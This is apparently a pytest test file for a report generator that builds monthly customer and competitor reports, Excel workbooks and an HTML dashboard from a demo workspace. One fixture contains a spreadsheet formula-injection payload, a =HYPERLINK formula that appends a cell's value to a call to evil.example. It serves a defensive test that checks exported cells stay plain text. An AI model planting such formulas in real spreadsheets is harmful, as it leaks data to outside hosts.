"""The 3C report's content, in process (no kernel): summary, actions, sections, periods, Excel
and the index dashboard — on the demo workspace built once per session."""

from __future__ import annotations

import re
import shutil
import zipfile
from datetime import date, datetime, time, timedelta, timezone
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import copy_demo

from compintel import UserError, Workbench
from compintel.cli import main
from compintel.threec import PeriodError, ThreeCReport, default_period
from compintel.threec.format import money_unit, table
from compintel.threec.index import IndexEntry, index_html, other_periods
from compintel.threec.workbook import Sheet, add_sheet, write_workbook

PERIOD = "2026-10"


@pytest.fixture(scope="module")
def reports(built_demo) -> dict[str, ThreeCReport]:
    wb = Workbench.open(built_demo)
    yield {cid: ThreeCReport(wb, cid, PERIOD) for cid in ("navika-motors", "dhruva-auto", "meridian-mobility")}
    wb.close()


@pytest.fixture
def own_demo(built_demo, tmp_path: Path) -> Path:
    """A writable copy of the built demo (store included)."""
    root = copy_demo(tmp_path / "demo")
    shutil.copy2(built_demo / "compintel.db", root / "compintel.db")
    return root


def anchors(markup: str) -> set[str]:
    return set(re.findall(r'id="([^"]+)"', markup))


# -- summary ----------------------------------------------------------------------------------

def test_summary_says_what_changed_since_last_month_with_numbers(reports) -> None:
    lines = [line.text for line in reports["navika-motors"].summary.lines]
    assert lines[0].startswith("Sales ₹ 23.32 Cr against a plan of ₹ 25.23 Cr (92 %); 2026-09: ₹ 23.43 Cr")
    assert "Our share of business 82.7 %, −0.2 pts since 2026-09." in lines
    # the note of 20 Oct: "VAGL PPM Sep 310, down from 380"
    assert "Vitreon Auto Glass PPM 310 (was 380), observed 2026-10-20." in lines
    meridian = [line.text for line in reports["meridian-mobility"].summary.lines]
    assert any(text.startswith("New RFQ Sanchar MY27 heated backlite (backlite), ₹ 1.90 Cr a year, "
                               "quote due 2026-12-18") for text in meridian)
    assert any(text.startswith("Receivables overdue ₹ 71.5 L, down ₹ 10.1 L since 2026-09") for text in meridian)


def test_every_summary_line_links_to_evidence_present_in_the_report(reports) -> None:
    for report in reports.values():
        targets = set()
        for part in (report.evidence_table(), report.competitor.share_matrix_table(),
                     report.customer.rfq_section(), report.customer.receivables_section(),
                     report.customer.open_issues_table(), report.customer.rating_table(),
                     report.company.sales_table()):
            targets |= anchors(part.markup)
        for line in [*report.summary.lines, *report.summary.actions]:
            assert line.href.startswith("#"), line
            assert line.href[1:] in targets, (report.customer_id, line)


def test_our_own_wins_and_losses_come_from_our_tables_not_from_tagged_text(reports) -> None:
    # a rumour tagged as our "supply loss" (it is about a competitor) must not lead the summary
    for report in reports.values():
        for line in report.summary.lines:
            assert not line.text.startswith("Kestrel Safety Glass lost business"), line


# -- actions ----------------------------------------------------------------------------------

def test_actions_fire_from_the_rules_file(reports) -> None:
    navika = [line.text for line in reports["navika-motors"].summary.actions]
    assert navika[0].startswith("Vitreon Auto Glass's PPM is 310 (2026-10-20) against our 66 (2026-10-20)")
    assert ("RFQ Vela facelift - acoustic windshield (windshield): quote due 2026-11-15, 15 days after "
            "the month's end, and no quote is logged yet.") in navika
    meridian = [line.text for line in reports["meridian-mobility"].summary.actions]
    assert any(text.startswith("Receivables overdue ₹ 71.5 L on 4 invoice(s)") for text in meridian)
    assert any(text.startswith("Our vendor rating at all plants is yellow (76, 2026-10)") for text in meridian)
    # Sanchar MY27's quote is due 18 Dec: 48 days after the month's end, beyond the rule's 30
    assert not any("Sanchar MY27" in text for text in meridian)
    dhruva = [line.text for line in reports["dhruva-auto"].summary.actions]
    assert not any(text.startswith("Receivables overdue") for text in dhruva)   # ₹ 48,000 < ₹ 25 L


def test_a_workspace_actions_file_replaces_the_built_in_rules(own_demo: Path) -> None:
    (own_demo / "actions.toml").write_text(
        '[[rule]]\nwhen = "overdue_above"\nthreshold_inr = 10000\ntext = "Chase {overdue}."\n', encoding="utf-8")
    with Workbench.open(own_demo) as wb:
        texts = [line.text for line in ThreeCReport(wb, "dhruva-auto", PERIOD).summary.actions]
        assert texts == ["Chase ₹ 48,000."]
        (own_demo / "actions.toml").write_text('[[rule]]\nwhen = "moon_phase"\ntext = "x"\n', encoding="utf-8")
        with pytest.raises(UserError, match=r"actions.toml: rule 1: unknown check 'moon_phase'"):
            _ = ThreeCReport(wb, "dhruva-auto", PERIOD).summary.actions


# -- sections ---------------------------------------------------------------------------------

def test_share_matrix_is_model_by_part_by_supplier_with_the_change(reports) -> None:
    frame = reports["dhruva-auto"].competitor.share_matrix()
    assert list(frame.columns[:3]) == ["model", "part_family", "Kestrel Safety Glass"]
    assert "Clarity Glassworks" in frame.columns
    assert frame[["model", "part_family"]].duplicated().sum() == 0
    navika = reports["navika-motors"].competitor.share_matrix()
    koru_bl = navika[(navika["model"] == "Koru") & (navika["part_family"] == "backlite")].iloc[0]
    assert koru_bl["Kestrel Safety Glass"] == "40 %" and koru_bl["Vitreon Auto Glass"] == "60 %"
    september = ThreeCReport(reports["navika-motors"].wb, "navika-motors", "2026-09").competitor.share_matrix()
    koru_bl = september[(september["model"] == "Koru") & (september["part_family"] == "backlite")].iloc[0]
    assert koru_bl["Kestrel Safety Glass"] == "40 % (−30.0 pts)"     # 70 % → 40 % from September


def test_visits_count_our_notes_and_not_competitor_rumours(reports) -> None:
    meridian = reports["meridian-mobility"].customer.visits().set_index("company")
    assert meridian.loc["Kestrel Safety Glass", "2026-10"] == 2      # two notes in October
    navika = reports["navika-motors"].customer.visits().set_index("company")
    # the October note says no competitor visits were seen; the only October mention is a rumour
    assert navika.loc["Vitreon Auto Glass", "2026-10"] == 0
    assert navika.loc["Vitreon Auto Glass", "2026-08"] == 1           # the observed note; not the rumour


def test_competitor_rating_scores_are_shown_where_known(reports) -> None:
    ratings = reports["navika-motors"].customer.ratings()
    vitreon = ratings[ratings["supplier"] == "Vitreon Auto Glass"]
    assert not vitreon.empty and vitreon["score"].notna().any() or vitreon["band"].notna().any()
    assert ratings.iloc[0]["supplier"] == "Kestrel Safety Glass"      # ours first


def test_complaint_table_hides_empty_months_and_categories(reports) -> None:
    for report in reports.values():
        frame = report.customer.complaints()
        if frame.empty:
            continue
        assert (frame["total"] > 0).all()
        counts = frame.drop(columns=["month"])
        assert (counts.sum() > 0).all(), counts.sum()


def test_one_money_unit_per_column_and_text_left_numbers_right() -> None:
    frame = pd.DataFrame({"part": ["=cmd", "b"], "value": [4.5e6, 3.2e7]})
    markup = table(frame, {"part": "Part", "value": "Value"}, money=["value"]).markup
    assert "Value (₹ Cr)" in markup and ">0.45<" in markup and ">3.20<" in markup
    assert '<td class="ci-text">=cmd</td>' in markup and '<td class="ci-num">3.20</td>' in markup
    assert money_unit([12_000, 95_000]).label == "₹" and money_unit([2e5]).label == "₹ L"


def test_header_names_customer_period_span_and_links_back(reports) -> None:
    report = reports["navika-motors"]
    header = report.header().markup
    assert "3C report — Navika Motors — 2026-10" in header
    assert "data spans 2025-04 to 2026-10" in header and 'href="index.html"' in header
    sources = report.data_sources().markup
    assert "sources/demo/tables/sales_plan_actual.xlsx" in sources and "field notes" in sources


# -- periods ----------------------------------------------------------------------------------

def test_default_period_is_the_latest_month_with_data(built_demo) -> None:
    with Workbench.open(built_demo) as wb:
        assert default_period(wb.store, wb.customers_with_data()) == "2026-10"
        assert ThreeCReport(wb, "navika-motors").model.period == "2026-10"


def test_a_period_outside_the_data_is_one_line_naming_the_span(built_demo, capsys) -> None:
    with Workbench.open(built_demo) as wb, pytest.raises(PeriodError) as refused:
        ThreeCReport(wb, "navika-motors", "2019-04")
    assert refused.value._render_traceback_() == [
        "PeriodError: 2019-04 is outside Navika Motors's data, which spans 2025-04 to 2026-10 "
        "(choose a month from 2025-04 to 2026-10 with -p period YYYY-MM)"]
    assert main(["report", "-w", str(built_demo), "-p", "2031-01", "-c", "navika-motors"]) == 2
    err = capsys.readouterr().err
    assert "spans 2025-04 to 2026-10" in err and "--period" in err and len(err.strip().splitlines()) == 1


# -- Excel ------------------------------------------------------------------------------------

HOSTILE = """---
date: 2026-10-29
customer: Navika Motors
plant: Ambeli
author: Test
grade: observed
---
=HYPERLINK("http://evil.example/"&A1,"click") said the buyer; VAGL PPM 420 this month.
"""


def test_excel_holds_the_tables_and_evidence_and_no_formula(own_demo: Path, tmp_path: Path) -> None:
    (own_demo / "sources" / "demo" / "notes" / "2026-10-29-hostile.md").write_text(HOSTILE, encoding="utf-8")
    with Workbench.open(own_demo) as wb:
        assert not wb.import_files().failed
        wb.tag()
        path = write_workbook(ThreeCReport(wb, "navika-motors", PERIOD), tmp_path / "navika.xlsx")
    book = openpyxl.load_workbook(path)
    assert {"Summary", "Sales", "Share of business", "Scorecard", "Evidence", "RFQs", "Visits"} <= set(book.sheetnames)
    evidence = book["Evidence"]
    assert evidence.freeze_panes == "A2"
    texts = [row[7] for row in evidence.iter_rows(min_row=2, values_only=True)]
    hostile = [text for text in texts if text and text.startswith("=HYPERLINK")]
    assert hostile, "the hostile note's sentence is in the evidence log"
    for row in evidence.iter_rows(min_row=2):
        assert row[7].data_type == "s"
        link = row[8].hyperlink
        assert link is None or link.target.startswith(("http://", "https://"))
    with zipfile.ZipFile(path) as archive:
        assert not any("<f>" in archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))
    sales = book["Sales"]
    assert sales["E1"].value == "Plan value (₹)" and sales["E2"].number_format == "#,##0"


def dates_under(sheet, *headers: str) -> list:
    """The non-empty cells below the given headers of a worksheet."""
    columns = [cell.column for cell in sheet[1] if cell.value in headers]
    assert len(columns) == len(headers)
    return [row[column - 1] for row in sheet.iter_rows(min_row=2) for column in columns
            if row[column - 1].value is not None]


def test_excel_dates_are_dates_as_the_page_shows_them(reports, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write_workbook(reports["meridian-mobility"], tmp_path / "m.xlsx"))
    issues = dates_under(book["Open issues"], "Raised", "Target")
    card = dates_under(book["Scorecard"], "PPM date", "OTIF date", "Rating date")
    assert issues and card
    for cell in issues + card:
        assert cell.is_date and cell.data_type == "d" and cell.number_format == "yyyy-mm-dd", cell.value
        assert cell.value.time() == time()
    raised = [cell.value.date() for cell in dates_under(book["Open issues"], "Raised")]
    assert date(2026, 3, 19) in raised
    # a scorecard figure without a date (NaT) is an empty cell, not "NaT"
    scorecard = book["Scorecard"]
    assert not any(cell.value == "NaT" for row in scorecard.iter_rows() for cell in row)


def test_excel_cells_take_dates_of_every_kind(tmp_path: Path) -> None:
    frame = pd.DataFrame({"when": [date(2026, 6, 30), datetime(2026, 6, 30, 9, 15),
                                   datetime(2026, 6, 30, 9, 15, tzinfo=timezone(timedelta(hours=5, minutes=30))),
                                   pd.Timestamp("2026-02-28"), pd.NaT, np.datetime64("2026-01-31")]},
                         dtype=object)
    book = openpyxl.Workbook()
    add_sheet(book, Sheet("Dates", frame, {"when": "When"}))
    book.save(tmp_path / "dates.xlsx")
    cells = [row[0] for row in openpyxl.load_workbook(tmp_path / "dates.xlsx")["Dates"].iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [
        datetime(2026, 6, 30), datetime(2026, 6, 30, 9, 15), datetime(2026, 6, 30, 3, 45),
        datetime(2026, 2, 28), None, datetime(2026, 1, 31)]
    assert [cell.number_format for cell in cells] == [
        "yyyy-mm-dd", "yyyy-mm-dd hh:mm", "yyyy-mm-dd hh:mm", "yyyy-mm-dd", "General", "yyyy-mm-dd"]


def test_export_creates_its_folder(reports, tmp_path: Path) -> None:
    """The report notebook's export_dir need not exist (``-p export_dir /tmp/x/exp``)."""
    folder = tmp_path / "x" / "exp"
    written = reports["navika-motors"].export(folder)
    assert written == {"xlsx": folder / "navika-motors.xlsx", "summary": folder / "navika-motors.summary.json"}
    assert all(path.is_file() for path in written.values())
    assert sorted(path.name for path in folder.iterdir()) == ["navika-motors.summary.json", "navika-motors.xlsx"]


# -- index ------------------------------------------------------------------------------------

def test_index_is_a_dashboard_linking_reports_and_other_months(tmp_path: Path) -> None:
    for month in ("2026-08", "2026-09"):
        (tmp_path / month).mkdir()
        (tmp_path / month / "index.html").write_text("x", encoding="utf-8")
    (tmp_path / "2026-07").mkdir()                 # no index: not listed
    row = {"actual_value": 2.332e8, "plan_value": 2.5e8, "ach_value_pct": 93.3, "share_pct": 82.7,
           "share_change_pts": -0.2, "rating_score": 87, "rating_band": "green", "open_issues": 2,
           "issues_past_target": 1, "overdue": 0.0, "top_competitor_move": "<b>Vitreon</b> PPM 310",
           "actions": 3}
    page = index_html("2026-10", [IndexEntry("navika-motors", "Navika Motors", "ok", "navika-motors.html",
                                             "navika-motors.xlsx", row=row),
                                  IndexEntry("dhruva-auto", "Dhruva", "failed", error="kernel died")],
                      workspace_name="demo", fictional=True, earlier=other_periods(tmp_path, "2026-10"))
    assert '<a href="../2026-09/index.html">2026-09</a> · <a href="../2026-08/index.html">2026-08</a>' in page
    assert "2026-07" not in page
    assert "₹ 23.32 Cr" in page and "82.7 %" in page and "−0.2 pts" in page and "87 green" in page
    assert "&lt;b&gt;Vitreon&lt;/b&gt; PPM 310" in page and "<b>Vitreon" not in page
    assert "failed</span> — kernel died" in page


def test_competitor_events_leave_out_the_customers_own_volumes(reports) -> None:
    for report in reports.values():
        events = report.competitor.technology_capacity()
        companies = set(events["company_id"])
        assert companies <= {"kestrel-glass", "vitreon", "sunmarg", "clarity-glassworks"}, companies
    dhruva = reports["dhruva-auto"].competitor.technology_capacity()
    # "Sunmarg Safety Glass will invest Rs 260 crore in a tempered glass line … 1.2 million sets a year"
    assert ((dhruva["company_id"] == "sunmarg") & (dhruva["value"] == 1_200_000)).any()


# -- edge cases a review found ----------------------------------------------------------------

def test_rupees_choose_their_unit_after_rounding() -> None:
    from compintel.threec.format import inr

    assert [inr(99_999.6), inr(9_999_999), inr(-0.3), inr(-2.5e7)] == [
        "₹ 1.0 L", "₹ 1.00 Cr", "₹ 0", "−₹ 2.50 Cr"]


def test_price_lines_are_plain_text_and_only_competitors_make_a_competitor_move(reports) -> None:
    prices = [line for line in reports["meridian-mobility"].summary.lines if line.topic == "price"]
    sunmarg = next(line for line in prices if line.text.startswith("Price move, Sunmarg Safety Glass 3,850 INR"))
    ours = next(line for line in prices if line.text.startswith("Price move, Kestrel Safety Glass 4,240 INR"))
    assert sunmarg.competitor == "Sunmarg Safety Glass" and ours.competitor is None
    assert all("&" not in line.text for line in prices)


def test_an_overdue_quote_gets_its_own_action(own_demo: Path) -> None:
    extra = own_demo / "sources" / "demo" / "tables" / "rfqs-late.csv"
    extra.write_text("RFQ Date,Customer,Programme,Part Family,Status,Quote Due\n"
                     "2026-08-01,Navika Motors,Tarani refresh,Sidelite,Open,2026-09-30\n", encoding="utf-8")
    with Workbench.open(own_demo) as wb:
        assert not wb.import_files([extra], table="rfq").failed
        texts = [line.text for line in ThreeCReport(wb, "navika-motors", PERIOD).summary.actions]
    assert ("RFQ Tarani refresh (sidelite): the quote was due 2026-09-30, 31 days before the month's end, "
            "and none is logged: confirm with purchase whether the RFQ is still open.") in texts
    assert not any("-31 days" in text for text in texts)


def test_a_customer_without_data_is_named_as_such(built_demo) -> None:
    with Workbench.open(built_demo) as wb, pytest.raises(PeriodError, match="has no account data"):
        ThreeCReport(wb, "Tata Motors")


def test_section_results_are_computed_once_per_arguments(reports) -> None:
    customer = reports["meridian-mobility"].customer
    assert customer.visits() is customer.visits(6) is customer.visits(months=6)
    assert list(customer.visits(months=3).columns) == ["company", "2026-08", "2026-09", "2026-10"]


def test_a_dollar_in_a_name_is_drawn_as_written() -> None:
    from compintel.threec import charts

    figure = charts.stacked_bars(pd.DataFrame({"Koru $\\frac$": [1, 2]}, index=["2026-09", "2026-10"]),
                                 "Koru $\\frac$ volumes", "vehicles")
    figure.canvas.draw()
    assert figure.axes[0].get_title() == "Koru \\$\\frac\\$ volumes"


def test_the_complaints_table_says_how_many_voc_items_it_leaves_out(reports) -> None:
    markup = str(reports["navika-motors"].customer.complaints_table())
    assert "VOC items are not counted here: 2 raised in these twelve months are in the" in markup
    markup = str(reports["dhruva-auto"].customer.complaints_table())
    assert "VOC items are not counted here: 1 raised in these twelve months is in the" in markup


def test_a_small_amount_in_a_column_of_crores_is_no_zero() -> None:
    unit = money_unit([1.2e8, 48_000, 0])
    assert unit.label == "₹ Cr"
    assert [unit.format(v) for v in (1.2e8, 48_000, -48_000, 0)] == ["12.00", "0.0048", "−0.0048", "0.00"]


def test_a_control_character_in_text_is_no_failed_workbook() -> None:
    from openpyxl import Workbook as OpenWorkbook

    from compintel.threec.workbook import write_cell

    sheet = OpenWorkbook().active
    cell = write_cell(sheet, 1, 1, "VAGL OTIF 71%\x01, line stopped\x1b[2J")
    assert cell.value == "VAGL OTIF 71% , line stopped [2J"
